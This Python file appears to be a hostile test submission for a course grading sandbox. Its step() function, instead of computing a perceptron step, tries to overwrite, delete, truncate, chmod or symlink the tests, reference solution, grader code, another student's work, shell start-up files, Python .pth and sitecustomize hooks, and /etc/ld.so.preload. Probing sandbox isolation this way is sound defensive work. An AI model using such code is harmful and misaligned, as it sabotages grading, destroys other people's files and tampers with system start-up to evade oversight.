"""Overwrites the checks, the reference, the grader, another student's work and start-up files."""
# honest: all 0

import os

TARGETS = (
    "@ROOT@/tests/exercises/test_perceptron.py",
    "@ROOT@/solutions/nnlab/perceptron.py",
    "@ROOT@/course/manifest.json",
    "@ROOT@/conftest.py",
    "@LABKIT@/labkit/testing.py",
    "@LABKIT@/labkit/isolation/inside/server.py",
    "@LABKIT@/labkit/worker/__main__.py",
    "@SITE@/nnlab-attack.pth",
    "@SITE@/sitecustomize.py",
    "@OTHER@/nnlab/perceptron.py",
    "@HOME@/.bashrc",
    "@HOME@/nnlab-attack",
    "@CANARY@",
    "/tmp/nnlab-attack",
    "/etc/ld.so.preload",
    "/usr/lib/python3/dist-packages/nnlab-attack.pth",
)


def step(z):
    done = []
    for target in TARGETS:
        for attempt in (
            lambda path: open(path, "a").write("\nraise SystemExit\n"),
            os.unlink,
            lambda path: os.rename(path, path + ".nnlab-attack"),
            lambda path: os.chmod(path, 0o777),
            lambda path: os.symlink("/etc/passwd", path + ".nnlab-attack"),
            lambda path: os.truncate(path, 0),
        ):
            try:
                attempt(target)
                done.append(target)
            except OSError:
                continue
    raise PermissionError(
        f"these worked: {[name for name in done if not name.startswith('/tmp/')]}"
    )
